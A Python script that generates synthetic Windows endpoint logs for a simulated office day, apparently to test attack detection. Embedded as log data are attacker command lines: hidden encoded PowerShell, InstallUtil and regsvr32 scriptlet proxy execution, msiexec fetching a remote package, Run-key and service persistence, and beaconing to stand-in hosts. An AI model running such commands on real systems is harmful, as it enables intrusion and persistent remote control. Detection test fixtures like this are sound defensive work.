"""Write the sample logs: a benign working day on four hosts with four attacks in it.

Run from the top of the repository: ``python -m samples.make_samples [FOLDER]``. Everything is
drawn from seeds, so the same script writes the same bytes. What happens when is told in README.md
beside this file; the attacks are below, in the order of the day.
"""

from __future__ import annotations

import base64
import sys
from pathlib import Path

from samples.render import defend, event_xml, winlogbeat
from samples.world import FRAMEWORK, SYSTEM32, Host, Process, at

CURRENT_VERSION = "\\Microsoft\\Windows\\CurrentVersion"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
DNS_SERVER, FILE_SERVER, MAIL_SERVER, PACKAGE_SERVER = (
    "10.20.0.10",
    "10.20.0.23",
    "10.20.0.25",
    "10.20.0.40",
)
SITES = (
    ("www.kontor-nachrichten.example", "192.0.2.18"),
    ("cdn.kontor-nachrichten.example", "192.0.2.19"),
    ("karten.fahrplan.example", "198.51.100.77"),
    ("portal.lieferant.example", "203.0.113.25"),
    ("static.wolkenspeicher.example", "2001:db8:77::1a"),
    ("meet.konferenz.example", "198.51.100.201"),
)


def browse(host: Host, chrome: Process, time: int) -> None:
    """A page: names are looked up, a connection or two, sometimes a download."""
    draw = host.random
    for name, address in draw.sample(SITES, draw.randrange(1, 3)):
        host.look_up(time, chrome, name, address)
        host.connect(time + draw.randrange(20, 90), chrome, address, 443)
        time += draw.randrange(200, 4000)
    if draw.random() < 0.25:
        user = chrome.user.rpartition("\\")[2]
        title = draw.choice(("Angebot", "Fahrplan", "Rechnung", "Preisliste"))
        path = f"C:\\Users\\{user}\\Downloads\\{title}_{draw.randrange(100, 999)}.pdf"
        host.write(time, chrome, path)


def office_day(host: Host, shell: Process, begin: str, end: str, pages: int) -> Process:
    """Mail, browser and documents from ``begin`` to ``end``; returns Outlook."""
    draw, first, last = host.random, at(begin), at(end)
    user = shell.user.rpartition("\\")[2]
    outlook = host.start(first, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"', shell)
    host.look_up(first + 900, outlook, "mail.nordwind.example", MAIL_SERVER)
    for time in range(first + 1000, last, 75 * 60_000):
        host.connect(
            time + draw.randrange(60_000), outlook, MAIL_SERVER, 443, domain="mail.nordwind.example"
        )
    chrome = host.start(first + 60_000, CHROME, f'"{CHROME}"', shell)
    for role in ("gpu-process", "utility", "renderer"):
        host.start(first + 61_000, CHROME, f'"{CHROME}" --type={role} --lang=de', chrome)
    for _ in range(pages):
        browse(host, chrome, draw.randrange(first + 120_000, last))
    for _ in range(4):
        time = draw.randrange(first + 600_000, last - 1_800_000)
        name = f"{draw.choice(('Planung', 'Umsatz', 'Touren'))}_{draw.randrange(1, 12)}.xlsx"
        path = f"\\\\nw-file01\\team\\{name}"
        excel = host.run(
            time,
            OFFICE + "EXCEL.EXE",
            f'"{OFFICE}EXCEL.EXE" "{path}"',
            shell,
            draw.randrange(300, 1700),
        )
        host.connect(time + 800, excel, FILE_SERVER, 445)
        host.write(
            time + 9000,
            excel,
            f"C:\\Users\\{user}\\AppData\\Local\\Temp\\~$xl{draw.randrange(1000, 9999)}.tmp",
        )
        recent = "Software\\Microsoft\\Office\\16.0\\Excel\\File MRU\\Item 1"
        host.set_value(time + 1200, excel, f"{host.hive_of(shell.user)}\\{recent}", path)
    return outlook


def windows_day(host: Host, begin: str, end: str, busy: int) -> None:
    """What Windows does on its own: name look-ups, updates, scheduled tasks, scans."""
    draw, first, last = host.random, at(begin), at(end)
    for _ in range(busy):
        time = draw.randrange(first, last)
        host.connect(time, host.dns_client, DNS_SERVER, 53, udp=True)
    for _ in range(busy // 2):
        time = draw.randrange(first, last)
        name, arguments, seconds = draw.choice(
            (
                ("taskhostw.exe", "", 40.0),
                ("MpCmdRun.exe", " SignatureUpdate -ScheduleJob -RestrictPrivileges", 12.0),
                ("UsoClient.exe", " StartScan", 3.0),
                ("sc.exe", " query wuauserv", 0.2),
                ("gpupdate.exe", " /target:computer", 4.0),
                ("conhost.exe", " 0xffffffff -ForceV1", 2.5),
            )
        )
        host.run(time, SYSTEM32 + name, f"{SYSTEM32}{name}{arguments}", host.schedule, seconds)
    for time in range(first + 400_000, last, 3 * 3_600_000):
        host.look_up(time, host.update, "updates.nordwind.example", PACKAGE_SERVER)
        host.connect(time + 150, host.update, PACKAGE_SERVER, 8530)
        key = f"HKLM\\SOFTWARE{CURRENT_VERSION}\\WindowsUpdate\\Auto Update\\LastOnlineScanTime"
        host.set_value(time + 2500, host.update, key, "2026-03-12")
    for _ in range(busy // 4):
        time = draw.randrange(first, last)
        provider = SYSTEM32 + "wbem\\WmiPrvSE.exe"
        host.run(time, provider, f"{provider} -Embedding", host.dcom, 90)


def macro_to_beacon(host: Host, outlook: Process) -> None:
    """Attack 1: a document's macro compiles an assembly and has InstallUtil run it."""
    home = "C:\\Users\\l.brandt\\"
    temp = home + "AppData\\Local\\Temp\\"
    document = home + "Downloads\\Mahnung_2026-0312.docm"
    host.write(at("09:11:52"), outlook, document)
    word = host.start(
        at("09:12:04"), OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{document}"', outlook
    )
    host.write(at("09:12:09"), word, temp + "~$hnung_2026-0312.docm")
    # What the encoded text says does no harm: it is only here to be decoded by who looks.
    text = base64.b64encode("Write-Output 'a sample, not an attack'".encode("utf-16-le")).decode()
    shell = host.start(
        at("09:12:21"), POWERSHELL, f"powershell.exe -nop -w hidden -enc {text}", word
    )
    host.look_up(at("09:12:23"), shell, "dl.mahnwesen-service.example", "203.0.113.66")
    host.connect(
        at("09:12:23.4"), shell, "203.0.113.66", 443, domain="dl.mahnwesen-service.example"
    )
    host.write(at("09:12:25"), shell, temp + "qw1r0x2d\\qw1r0x2d.0.cs")
    compiler = host.start(
        at("09:12:26"),
        FRAMEWORK + "csc.exe",
        f'"{FRAMEWORK}csc.exe" /noconfig /fullpaths @"{temp}qw1r0x2d\\qw1r0x2d.cmdline"',
        shell,
    )
    host.run(
        at("09:12:26.6"),
        FRAMEWORK + "cvtres.exe",
        f"{FRAMEWORK}cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
        compiler,
        0.4,
    )
    host.write(at("09:12:27"), compiler, temp + "qw1r0x2d\\report.dll")
    host.end(compiler, at("09:12:27.2"))
    options = f'/logfile= /LogToConsole=false /U "{temp}qw1r0x2d\\report.dll"'
    program = FRAMEWORK + "InstallUtil.exe"
    tool = host.start(at("09:12:31"), program, f'"{program}" {options}', shell)
    host.look_up(at("09:12:33"), tool, "metrics.mahnwesen-service.example", "203.0.113.140")
    host.connect(at("09:12:52"), tool, "127.0.0.1", 8118)
    for minute in range(8):  # a beacon: every two minutes, give or take three seconds
        wait = minute * 120_000 + host.random.randrange(-3000, 3000)
        host.connect(
            at("09:12:37") + wait,
            tool,
            "203.0.113.140",
            443,
            domain="metrics.mahnwesen-service.example",
        )
    host.connect(at("09:19:05"), tool, "2001:db8:66::140", 8443)
    command = host.run(
        at("09:14:50"),
        SYSTEM32 + "cmd.exe",
        "cmd.exe /c whoami /groups & net view /domain",
        tool,
        2.0,
    )
    host.run(at("09:14:50.2"), SYSTEM32 + "whoami.exe", "whoami /groups", command, 0.1)
    host.run(at("09:14:50.8"), SYSTEM32 + "net.exe", "net view /domain", command, 0.9)
    host.write(at("09:15:12"), tool, home + "AppData\\Roaming\\Nordlicht\\sync.dll")
    host.write(at("09:15:13"), tool, home + "AppData\\Roaming\\Nordlicht\\sync.exe")
    key = f"{host.hive_of(tool.user)}\\SOFTWARE{CURRENT_VERSION}\\Run\\NordlichtSync"
    host.set_value(at("09:15:14"), tool, key, home + "AppData\\Roaming\\Nordlicht\\sync.exe /quiet")
    host.connect(at("09:20:41"), tool, FILE_SERVER, 445)
    host.connect(at("09:21:02"), tool, "10.20.0.25", 5985)
    host.end(shell, at("09:30:00"))
    host.end(tool, at("09:31:12"))
    host.end(word, at("09:33:40"))


def page_to_scriptlet(host: Host, shell: Process) -> None:
    """Attack 2: mshta runs a page from the network, regsvr32 the scriptlet it names."""
    home = "C:\\Users\\t.okafor\\"
    chrome = host.start(
        at("10:40:10"),
        CHROME,
        f'"{CHROME}" --single-argument https://portal.lieferant.example/',
        shell,
    )
    host.look_up(at("10:40:12"), chrome, "dokumente.lieferant-portal.example", "198.51.100.23")
    host.connect(at("10:40:12.3"), chrome, "198.51.100.23", 443)
    host.write(at("10:40:58"), chrome, home + "Downloads\\Lieferschein.hta")
    page = host.start(
        at("10:41:07"),
        SYSTEM32 + "mshta.exe",
        f'"{SYSTEM32}mshta.exe" "{home}Downloads\\Lieferschein.hta"',
        shell,
    )
    host.look_up(at("10:41:08"), page, "dokumente.lieferant-portal.example", "198.51.100.23")
    host.connect(at("10:41:08.4"), page, "198.51.100.23", 80)
    scriptlet = host.start(
        at("10:41:15"),
        SYSTEM32 + "regsvr32.exe",
        "regsvr32.exe /s /n /u /i:https://dokumente.lieferant-portal.example/ls.sct scrobj.dll",
        page,
    )
    host.look_up(at("10:41:15.5"), scriptlet, "dokumente.lieferant-portal.example", "198.51.100.23")
    for second in ("10:41:16", "10:41:19", "10:43:20", "10:45:21"):
        host.connect(at(second), scriptlet, "198.51.100.23", 443)
    command = host.run(
        at("10:41:24"),
        SYSTEM32 + "cmd.exe",
        "cmd.exe /c systeminfo > %TEMP%\\i.txt",
        scriptlet,
        6.0,
    )
    host.run(at("10:41:24.3"), SYSTEM32 + "systeminfo.exe", "systeminfo", command, 5.0)
    host.write(at("10:41:24.5"), command, home + "AppData\\Local\\Temp\\i.txt")
    host.write(
        at("10:41:40"),
        scriptlet,
        home + "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\ls.lnk",
    )
    host.end(page, at("10:42:30"))
    host.end(scriptlet, at("10:46:02"))


def renamed_tool(host: Host) -> None:
    """Attack 3: a task starts a renamed InstallUtil; the log has its connection first."""
    folder = "C:\\ProgramData\\Telemetry\\"
    shell = host.start(
        at("14:19:40"),
        POWERSHELL,
        f"powershell.exe -ep bypass -f {folder}collect.ps1",
        host.schedule,
    )
    host.write(at("14:19:52"), shell, folder + "tlmsvc.exe")
    host.write(at("14:19:53"), shell, folder + "plugin.dll")
    tool = host.start(
        at("14:20:02.4"),
        folder + "tlmsvc.exe",
        f"{folder}tlmsvc.exe /U {folder}plugin.dll",
        shell,
        late=2600,
    )
    host.connect(at("14:20:02.9"), tool, "198.51.100.99", 8443, late=600)
    host.connect(at("14:24:40"), tool, "198.51.100.99", 8443)
    host.connect(at("14:29:15"), tool, "198.51.100.99", 8443)
    host.write(at("14:29:20"), tool, folder + "out.cab")
    host.end(shell, at("14:21:00"))
    host.end(tool, at("14:41:07"))


def patch_rounds(host: Host) -> None:
    """No attack: the patch agent has msiexec fetch a package nine times, an alert each."""
    account = "NORDWIND\\svc_patch"
    image = "C:\\Program Files\\Kontor Patch\\patchagent.exe"
    agent = host.start(at("06:31:10"), image, f'"{image}" --service', host.services, account)
    for turn in range(9):
        time = at("07:05:00") + turn * 3_600_000 + host.random.randrange(0, 240_000)
        host.look_up(time - 900, agent, "packages.nordwind.example", PACKAGE_SERVER)
        host.connect(time - 700, agent, PACKAGE_SERVER, 443)
        package = f"https://packages.nordwind.example/kb50{host.random.randrange(10000, 99999)}.msi"
        log = f"C:\\Windows\\Temp\\kp_{host.random.randrange(16**6):06x}.log"
        installer = host.start(
            time,
            SYSTEM32 + "msiexec.exe",
            f'msiexec.exe /i "{package}" /qn /norestart /l*v "{log}"',
            agent,
        )
        host.look_up(time + 500, installer, "packages.nordwind.example", PACKAGE_SERVER)
        host.connect(time + 900, installer, PACKAGE_SERVER, 443)
        host.write(time + 4000, installer, log)
        key = f"HKLM\\SOFTWARE\\Kontor\\Patch\\History\\{turn + 1}"
        host.set_value(time + 31_000, installer, key, package.rpartition("/")[2])
        host.end(installer, time + 40_000)


def foreign_package(host: Host) -> None:
    """Attack 4: among the patch agent's alerts, the same program with a package from elsewhere."""
    shell = host.logon("15:04:30", "adm.keller")
    command = host.start(at("15:06:02"), SYSTEM32 + "cmd.exe", f'"{SYSTEM32}cmd.exe"', shell)
    installer = host.start(
        at("15:07:13"),
        SYSTEM32 + "msiexec.exe",
        "msiexec.exe /q /i http://203.0.113.200/kb5031455.msi",
        command,
    )
    host.connect(at("15:07:14.2"), installer, "203.0.113.200", 80)
    host.connect(at("15:07:19"), installer, "203.0.113.200", 80)
    host.write(at("15:07:21"), installer, "C:\\Windows\\Installer\\MSI7A1C.tmp")
    payload = host.start(
        at("15:07:22"),
        "C:\\Windows\\Installer\\MSI7A1C.tmp",
        '"C:\\Windows\\Installer\\MSI7A1C.tmp"',
        installer,
        "NT AUTHORITY\\SYSTEM",
    )
    host.connect(at("15:07:26"), payload, "203.0.113.200", 4443)
    host.set_value(
        at("15:07:31"),
        payload,
        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\KbSync\\ImagePath",
        "C:\\ProgramData\\kbsync.exe",
    )
    host.write(at("15:07:31.5"), payload, "C:\\ProgramData\\kbsync.exe")
    host.end(installer, at("15:07:40"))
    host.end(command, at("15:12:00"))


def developer_day(host: Host, shell: Process) -> None:
    """Benign, and near the attacks: InstallUtil that connects to nothing, and builds."""
    studio = (
        "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe"
    )
    ide = host.start(at("08:20:00"), studio, f'"{studio}" C:\\src\\touren\\touren.sln', shell)
    for clock in ("09:40:00", "11:15:00", "13:05:00", "15:30:00"):
        compiler = FRAMEWORK + "csc.exe"
        host.run(
            at(clock),
            compiler,
            f'"{compiler}" /noconfig @"C:\\src\\touren\\obj\\build.rsp"',
            ide,
            3.0,
        )
        host.write(at(clock) + 2500, ide, "C:\\src\\touren\\bin\\Debug\\TourenDienst.exe")
    tool = FRAMEWORK + "InstallUtil.exe"
    for clock in ("11:16:30", "15:31:10"):
        host.run(
            at(clock), tool, f'"{tool}" C:\\src\\touren\\bin\\Debug\\TourenDienst.exe', ide, 2.0
        )
        host.write(at(clock) + 900, ide, "C:\\src\\touren\\bin\\Debug\\TourenDienst.InstallLog")


def day() -> dict[str, bytes]:
    """The logs of the day: file name → content."""
    finance = Host("NW-WS-014", "10.20.14.14", "07:41:00")
    shell = finance.logon("07:43:10", "l.brandt")
    outlook = office_day(finance, shell, "07:45:00", "16:40:00", pages=24)
    windows_day(finance, "07:50:00", "16:50:00", busy=44)
    macro_to_beacon(finance, outlook)

    sales = Host("NW-WS-027", "10.20.14.27", "08:10:00")
    shell = sales.logon("08:12:20", "t.okafor")
    office_day(sales, shell, "08:15:00", "17:20:00", pages=10)
    windows_day(sales, "08:20:00", "17:25:00", busy=16)
    page_to_scriptlet(sales, shell)

    developer = Host("NW-WS-031", "10.20.14.31", "08:02:00")
    shell = developer.logon("08:04:00", "m.lindqvist")
    office_day(developer, shell, "08:06:00", "17:05:00", pages=16)
    windows_day(developer, "08:10:00", "17:10:00", busy=36)
    developer_day(developer, shell)
    renamed_tool(developer)

    server = Host("NW-SRV-APP02", "10.20.0.52", "06:30:00")
    windows_day(server, "06:40:00", "17:30:00", busy=44)
    patch_rounds(server)
    foreign_package(server)

    return {
        "nw-ws-014.sysmon.ndjson": winlogbeat(finance),
        "nw-ws-027.sysmon.xml": event_xml(sales),
        "nw-ws-031.sysmon.ndjson": winlogbeat(developer),
        "nw-srv-app02.defend.ndjson": defend(server),
    }


def main(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in day().items():
        (folder / name).write_bytes(content)
        print(f"{folder / name}: {len(content):,} bytes")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "logs")
